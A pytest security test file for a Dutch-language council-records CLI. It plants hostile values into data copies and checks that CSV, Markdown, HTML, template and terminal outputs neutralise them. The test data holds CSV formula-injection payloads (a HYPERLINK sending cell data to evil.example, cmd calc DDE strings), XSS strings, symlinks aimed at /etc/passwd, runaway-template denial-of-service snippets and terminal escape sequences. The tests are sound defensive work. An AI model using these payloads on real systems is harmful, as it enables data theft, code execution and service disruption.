"""Outputs carry data, never instructions (issue 11, item 3): hostile values planted into real
records of a copy of the dataset, run through the real CLI.

- CSV (export and --format csv): no cell starts a formula; the value is kept behind a '.
- Markdown: a value adds no heading, list item, block, link or raw HTML; it still shows as text.
- HTML: a value's markup is escaped.
- User templates: no link out of their folder is read; a runaway template is stopped.
- Terminal tables and shown records: markup and control characters in a value print as text.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import time
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from ruamel.yaml import YAML

from resoc_cli.rendering import TIME_LIMIT

from .conftest import REPO, run_cli

# The starts OWASP's "CSV Injection" page lists; written out here so the test does not trust the code's list.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
COUNCIL = "councils/kerngroep-leren-en-werken.yaml"
PLAN = "pacts/streekpact-kempen-2013-2018/plans/kerngroep-leren-en-werken-2018.yaml"


def _plant(data: Path, values: dict[str, dict[str, Any]]) -> None:
    """Set fields of real records (path relative to data/ -> field -> value) and check the data stays valid."""
    yaml = YAML()
    for relative, fields in values.items():
        path = data / relative
        record = yaml.load(path.read_text(encoding="utf-8"))
        record.update(fields)
        with path.open("w", encoding="utf-8") as handle:
            yaml.dump(record, handle)
    checked = run_cli("validate", str(data))
    assert checked.returncode == 0, checked.stdout + checked.stderr


# ---------------------------------------------------------------------------- CSV

SPREADSHEET = {
    "contacts/lieve-cox.yaml": {"name": '=HYPERLINK("http://evil.example/?d="&A1;"klik")'},
    "contacts/kim-nevelsteen.yaml": {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
    "contacts/dimitri-gevers.yaml": {"name": "-2+3+cmd|' /C calc'!A0", "note": "\t=1+2"},
    "contacts/bart-van-hecke.yaml": {"name": "+1+1", "note": "\r=1+2"},
    "contacts/rob-van-es.yaml": {"note": "\n=1+2"},
    COUNCIL: {"description": "=1+2;=3+4"},
}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_neutral(cells: list[str], planted: list[str]) -> None:
    live = [cell for cell in cells if cell.startswith(FORMULA)]
    assert not live, f"cells a spreadsheet would run as formulas: {live}"
    for value in planted:
        assert "'" + value in cells, f"{value!r} is not kept behind a '"


@pytest.fixture
def spreadsheet_data(data_copy: Path) -> Path:
    _plant(data_copy, SPREADSHEET)
    return data_copy


def test_csv_export_neutralises_every_formula_and_quotes_it(spreadsheet_data: Path, tmp_path: Path) -> None:
    folder = tmp_path / "csv"
    result = run_cli("export", "csv", "-o", str(folder), "--data", str(spreadsheet_data))
    assert result.returncode == 0, result.stderr
    texts = {p.name: p.read_bytes().decode("utf-8") for p in folder.iterdir()}  # every \r as written
    cells = [cell for text in texts.values() for cell in _cells(text)]
    _assert_neutral(cells, [v for fields in SPREADSHEET.values() for v in fields.values()])
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1;""klik"")"' in texts["contacts.csv"]  # quoted, quotes doubled
    assert '"\'=1+2;=3+4"' in texts["councils.csv"]  # the ; cannot open a cell in a ;-splitting spreadsheet
    # A phone number from the real data starts with +: it too is kept as text, as OWASP says
    phones = [row["value"] for row in csv.DictReader(io.StringIO(texts["contact_details.csv"])) if row["type"] == "phone"]
    assert phones and all(p.startswith("'+32") for p in phones)


def test_format_csv_of_lists_and_records_neutralises_every_formula(spreadsheet_data: Path) -> None:
    listed = run_cli("contacts", "list", "-f", "csv", "--data", str(spreadsheet_data))
    shown = run_cli("councils", "show", "kerngroep-leren-en-werken", "-f", "csv", "--data", str(spreadsheet_data))
    assert listed.returncode == 0 and shown.returncode == 0, listed.stderr + shown.stderr
    names = [fields["name"] for fields in SPREADSHEET.values() if "name" in fields]
    _assert_neutral(_cells(listed.stdout), names)
    _assert_neutral(_cells(shown.stdout), ["=1+2;=3+4"])


# ---------------------------------------------------------------------------- Markdown and HTML

IMG = "<img src=x onerror=alert(1)>"
HOSTILE = {
    "contacts/kim-nevelsteen.yaml": {"name": "Kim Nevelsteen\n# Valse kop\n- Valse lid"},
    "contacts/lieve-cox.yaml": {"name": IMG},
    COUNCIL: {"description": "# Kop aan het begin\n\n<script>alert(1)</script>\n\n[klik](javascript:alert(1))\n\n"
                             "    code\n1. genummerd\n> citaat\n---\n| a | b |\n|---|---|\n```\n" + IMG,
              "mandates": ["- nep", "[x]: javascript:alert(1)", "1) lijst", "===", "    ingesprongen", "<b>vet</b>"]},
    PLAN: {"title": "## Valse kop\n* nep", "note": "Opmerking\n\n## Valse kop\n\n" + IMG},
}
# The same records with harmless values of the same shape: the reports' structure to compare with
BENIGN = {path: {field: ["tekst"] * len(value) if isinstance(value, list) else "Gewone tekst"
                 for field, value in fields.items()} for path, fields in HOSTILE.items()}
REPORTS = [["report", "council", "kerngroep-leren-en-werken"], ["plan", "show", "kerngroep-leren-en-werken", "2018"],
           ["report", "directory"], ["report", "region", "kempen"]]


COMMONMARK = MarkdownIt("commonmark").enable("table")  # GitHub's Markdown is CommonMark with tables


def _inline(markdown: str) -> list[Any]:
    """The tokens of the text inside the blocks: text, line breaks, HTML, links, emphasis."""
    return [child for token in COMMONMARK.parse(markdown) for child in token.children or []]


def _blocks(markdown: str) -> list[str]:
    """The block structure: headings, lists, quotes, code, tables, paragraphs, in order."""
    return [token.type for token in COMMONMARK.parse(markdown) if token.type != "inline"]


def _reports(data: Path, planted: dict[str, dict[str, Any]]) -> list[str]:
    _plant(data, planted)
    results = [run_cli(*args, "--data", str(data)) for args in REPORTS]
    assert all(r.returncode == 0 for r in results), [r.stderr for r in results]
    return [r.stdout for r in results]


def test_markdown_values_add_no_heading_list_item_link_or_html(data_copy: Path) -> None:
    benign = _reports(data_copy, BENIGN)
    hostile = _reports(data_copy, HOSTILE)
    for args, plain, attacked in zip(REPORTS, benign, hostile):
        assert _blocks(attacked) == _blocks(plain), f"{args}: a value changed the document's structure"
        assert "html_block" not in _blocks(attacked), args
        inline = _inline(attacked)
        assert {t.content for t in inline if t.type == "html_inline"} <= {"<br>"}, args  # only our line breaks
        assert not [t for t in inline if t.type in ("link_open", "image")], args
    text = "".join(t.content for t in _inline("\n".join(hostile)) if t.type == "text")
    for shown in ("# Valse kop", "- Valse lid", IMG, "<script>alert(1)</script>", "[klik](javascript:alert(1))",
                  "[x]: javascript:alert(1)", "1) lijst", "    ingesprongen", "<b>vet</b>"):
        assert shown in text, f"{shown!r} is not shown as text"


BLOCK_SYNTAX = ["# h", "#h", "   # h", "- x", "  - x", "+ x", "* x", "-", "1. x", "1) x", "2024. x", "> q", " > q", "---",
                "***", "___", "===", "- - -", "```py", "~~~", "    code", "\tcode", "<div>x</div>", "<img src=x>",
                "<!-- c -->", "<https://evil.example>", "[a](b)", "![a](b)", "[a]: http://x", "a | b", "a\\", "&lt;",
                "&#60;", "R&D", "+32 14 47 28 65"]
CONTEXTS = ["{}", "- {}", "1. {}", "# {}", "> {}", "Tekst\n{}", "| h |\n|---|\n| {} |"]


def _read(markdown: str) -> tuple[list[str], str, list[str]]:
    """(block structure, the words shown, inline tokens other than text): white space aside."""
    inline = _inline(markdown)
    words = "".join("".join(t.content.split()) for t in inline if t.type == "text")
    return _blocks(markdown), words, [t.type for t in inline if t.type not in ("text", "softbreak")]


@pytest.mark.parametrize("context", CONTEXTS)
def test_markdown_text_shows_each_value_as_itself_wherever_a_template_puts_it(context: str) -> None:
    from resoc_cli.neutral import markdown_text

    blocks, words, _ = _read(context.format("PLACE"))
    for value in BLOCK_SYNTAX:
        assert _read(context.format(markdown_text(value))) == (blocks, words.replace("PLACE", "".join(value.split())), []), value
    assert markdown_text("a\r\nb\rc\nd") == "a<br>b<br>c<br>d"


def test_html_reports_escape_markup_in_values(data_copy: Path) -> None:
    _plant(data_copy, HOSTILE)
    result = run_cli("report", "council", "kerngroep-leren-en-werken", "-f", "html", "--data", str(data_copy))
    assert result.returncode == 0, result.stderr
    assert "<img" not in result.stdout and "<script>alert" not in result.stdout
    assert "&lt;img src=x onerror=alert(1)&gt;" in result.stdout and "&lt;script&gt;alert(1)&lt;/script&gt;" in result.stdout


# ---------------------------------------------------------------------------- user templates


def test_a_copy_of_our_templates_renders_as_ours_in_the_sandbox(tmp_path: Path) -> None:
    shutil.copytree(REPO / "templates", tmp_path / "mine")
    for args in (["report", "council", "serr-oostende-westhoek"], ["plan", "show", "kerngroep-leren-en-werken", "2018"]):
        for fmt in ("md", "html"):
            ours = run_cli(*args, "-f", fmt)
            theirs = run_cli(*args, "-f", fmt, "--templates", str(tmp_path / "mine"))
            assert theirs.returncode == 0, theirs.stderr
            assert theirs.stdout == ours.stdout


def _link_to_passwd(folder: Path, secret: Path) -> None:
    (folder / "council.md.j2").symlink_to("/etc/passwd")


def _include_of_a_link_to_a_file_beside(folder: Path, secret: Path) -> None:
    (folder / "council.md.j2").write_text("{% include '_part.md.j2' %}", encoding="utf-8")
    (folder / "_part.md.j2").symlink_to(secret)


def _include_through_a_linked_folder(folder: Path, secret: Path) -> None:
    (folder / "council.md.j2").write_text("{% include 'sub/passwd' %}", encoding="utf-8")
    (folder / "sub").symlink_to("/etc", target_is_directory=True)


@pytest.mark.parametrize("plant", [_link_to_passwd, _include_of_a_link_to_a_file_beside, _include_through_a_linked_folder])
def test_a_template_link_out_of_its_folder_is_refused(tmp_path: Path, plant: Any) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("GEHEIM-1234\n", encoding="utf-8")
    folder = tmp_path / "templates"
    folder.mkdir()
    plant(folder, secret)
    result = run_cli("report", "council", "kerngroep-leren-en-werken", "--templates", str(folder))
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "link that leads out of" in result.stderr and "Traceback" not in result.stderr
    assert "root:" not in result.stdout + result.stderr and "GEHEIM" not in result.stdout + result.stderr


def test_a_link_inside_the_folder_is_followed(tmp_path: Path) -> None:
    (tmp_path / "real.md.j2").write_text("Raad: {{ name }}\n", encoding="utf-8")
    (tmp_path / "council.md.j2").symlink_to(tmp_path / "real.md.j2")
    result = run_cli("report", "council", "kerngroep-leren-en-werken", "--templates", str(tmp_path))
    assert (result.returncode, result.stdout) == (0, "Raad: Kerngroep leren en werken\n"), result.stderr


RUNAWAY = {  # the template, and how its stop may be worded
    "writes without end": ("{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
                           ("wrote more than", "ran longer than")),
    "loops in silence": ("{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
                         ("ran longer than",)),
    "one huge operation": ("{{ 10 ** (10 ** 10) }}", ("ran longer than",)),
}


@pytest.mark.parametrize("kind", RUNAWAY)
def test_a_runaway_template_is_stopped(tmp_path: Path, kind: str) -> None:
    template, wordings = RUNAWAY[kind]
    (tmp_path / "council.md.j2").write_text(template, encoding="utf-8")
    started = time.monotonic()
    result = run_cli("report", "council", "kerngroep-leren-en-werken", "--templates", str(tmp_path))
    elapsed = time.monotonic() - started
    assert result.returncode == 2 and result.stdout == "", result.stderr
    assert any(wording in result.stderr for wording in wordings) and "Traceback" not in result.stderr, result.stderr
    assert elapsed < TIME_LIMIT + 10, f"stopped only after {elapsed:.1f} s"


@pytest.mark.skipif(not os.path.exists("/proc/self/statm"), reason="the memory cap needs Linux's /proc")
def test_a_template_that_takes_too_much_memory_is_stopped(tmp_path: Path) -> None:
    (tmp_path / "council.md.j2").write_text("{{ 'x' * 10 ** 10 }}", encoding="utf-8")
    result = run_cli("report", "council", "kerngroep-leren-en-werken", "--templates", str(tmp_path))
    assert result.returncode == 2 and "memory" in result.stderr, result.stderr


# ---------------------------------------------------------------------------- terminal


def test_tables_and_records_show_markup_and_control_characters_as_text(data_copy: Path) -> None:
    name = "Lieve [/bold] [link=https://evil.example]Cox[/link] \x1b]0;pwned\x07\x1b[31mrood\r"
    _plant(data_copy, {"contacts/lieve-cox.yaml": {"name": name}})
    for args in (["contacts", "list"], ["contacts", "show", "lieve-cox"], ["councils", "show", "kerngroep-leren-en-werken"]):
        result = run_cli(*args, "--data", str(data_copy))
        assert result.returncode == 0, result.stderr  # rich read '[/bold]' as markup and ended with exit 3
        assert "Lieve [/bold] [link=https://evil.example]Cox[/link] \\x1b]0;pwned\\x07\\x1b[31mrood\\x0d" in result.stdout
        assert not set(result.stdout) & {"\x1b", "\x07", "\r"}, args


def test_the_csv_writer_writes_what_dictwriter_writes_of_the_neutralised_cells() -> None:
    """csv_writer builds each row's cells itself (speed); the text is csv.DictWriter's of the
    cells csv_cell makes, a missing key gets restval and an unknown key is refused, as DictWriter does."""
    import csv
    import io
    import random

    from resoc_cli.neutral import csv_cell, csv_writer

    rng = random.Random(7)
    columns = ["id", "name", "phone", "count"]
    pool = ["=1+1", "+3214728656", "-x", "@SUM(A1)", "\tx", "plain", "a;b", 'say "hi"', "", None, 3, 2.5, True]
    rows = [{c: rng.choice(pool) for c in columns if rng.random() > 0.2} for _ in range(300)]
    ours, theirs = io.StringIO(newline=""), io.StringIO(newline="")
    writer = csv_writer(ours, columns, restval="-")
    writer.writeheader()
    writer.writerows(rows[:150])
    for row in rows[150:]:
        writer.writerow(row)
    reference = csv.DictWriter(theirs, fieldnames=columns, quoting=csv.QUOTE_NONNUMERIC, restval="-")
    reference.writeheader()
    reference.writerows([{k: csv_cell(v) for k, v in row.items()} for row in rows])
    assert ours.getvalue() == theirs.getvalue()
    assert "'=1+1" in ours.getvalue() and '"-"' in ours.getvalue()  # neutralised, and restval written
    with pytest.raises(ValueError, match="'extra'"):
        csv_writer(io.StringIO(), columns).writerow({"id": "x", "extra": 1})
    lenient = io.StringIO(newline="")
    csv_writer(lenient, ["id"], extrasaction="ignore").writerow({"id": "=x", "extra": 1})
    assert lenient.getvalue() == "\"'=x\"\r\n"
